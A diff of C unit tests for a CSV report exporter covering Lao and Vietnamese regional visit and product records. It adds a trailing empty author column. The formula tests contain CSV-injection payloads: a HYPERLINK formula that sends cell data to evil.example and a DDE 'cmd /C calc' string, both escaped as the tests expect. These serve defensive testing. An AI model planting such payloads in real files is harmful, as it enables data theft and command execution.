@@ -803,20 +803,20 @@ static void test_csv(void **state)
 	/* numbers plain (3.8, 76), Vietnamese and Lao byte for byte */
 	assert_non_null(strstr(csv,
 		"\r\nNgô nếp (sticky maize),Salavan,Lao Ngam,ບ້ານໜອງບົວ,5,3.8,76,"
-		"42,42,2026-04-10,no\r\n"));
+		"42,42,2026-04-10,no,\r\n")  /* no roster: author empty */);
 	assert_non_null(strstr(csv,
-		"\r\nNấm linh chi,Champasak,,,0.5,,,10,,,yes\r\n"));
+		"\r\nNấm linh chi,Champasak,,,0.5,,,10,,,yes,\r\n"));
 	/* a field with a comma and quotes is quoted, quotes doubled */
 	assert_non_null(strstr(csv,
 		"\r\n2026-01-15,,out,Champasak,industry-trade,Trần Thị Bình,"
 		"\"Director, \"\"Gia Lai Trade\"\" Centre\",12,"
-		"Pakse Chamber of Commerce\r\n"));
+		"Pakse Chamber of Commerce,\r\n"));
 	assert_non_null(strstr(csv,
 		"\r\n2026-04-12,2026-04-14,in,Salavan,politics,ທ່ານ ບຸນມີ,"
-		"ເຈົ້າແຂວງ ສາລະວັນ,15,\r\n"));
+		"ເຈົ້າແຂວງ ສາລະວັນ,15,,\r\n"));
 	assert_non_null(strstr(csv,
 		"\r\n2026-04-27,2026-05-08,Sekong,health,obstetrics,"
-		"BS. Đỗ Thị Hoa,Sekong provincial hospital,1,12,2,18,33\r\n"));
+		"BS. Đỗ Thị Hoa,Sekong provincial hospital,1,12,2,18,33,\r\n"));
 	assert_non_null(strstr(csv,
 		"\r\nTargets 2026\r\nTarget,From,To,Expected,Actual,Status,"
 		"Description\r\nmedical-experts,2026-01-01,2026-12-31,4,2,"
@@ -913,11 +913,11 @@ static void test_csv_formulas(void **state)
 	assert_non_null(strstr(csv,
 		"\r\n2026-01-20,,out,Salavan,agriculture,"
 		"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
-		"\"'+1+cmd|' /C calc'!A0\",8,\"'@SUM(1,2)\"\r\n"));
+		"\"'+1+cmd|' /C calc'!A0\",8,\"'@SUM(1,2)\",\r\n"));
 	/* '=' inside a text is harmless and stays as it is */
 	assert_non_null(strstr(csv,
 		"\r\n2026-03-02,2026-03-06,Attapeu,health,surgery,\"'-2+3\","
-		"Bệnh viện = hospital,3,15,4,25,40\r\n"));
+		"Bệnh viện = hospital,3,15,4,25,40,\r\n"));
 	free(csv);
 	cJSON_Delete(doc);
 	srv_report_input_free(in);
@@ -932,7 +932,7 @@ static void test_csv_formulas(void **state)
 	assert_non_null(doc);
 	assert_int_equal(srv_report_render(doc, SRV_REPORT_CSV, &csv, &len), 0);
 	assert_non_null(strstr(csv,
-		"\r\n2026-01-20,,out,Salavan,,\"'\tTAB\",\"'\rCR\",-3,\"'-\"\r\n"));
+		"\r\n2026-01-20,,out,Salavan,,\"'\tTAB\",\"'\rCR\",-3,\"'-\",\r\n"));
 	assert_non_null(strstr(csv, "\r\n\"'=x\",expert,d1,,-1.5\r\n"));
 	free(csv);
 	cJSON_Delete(doc);
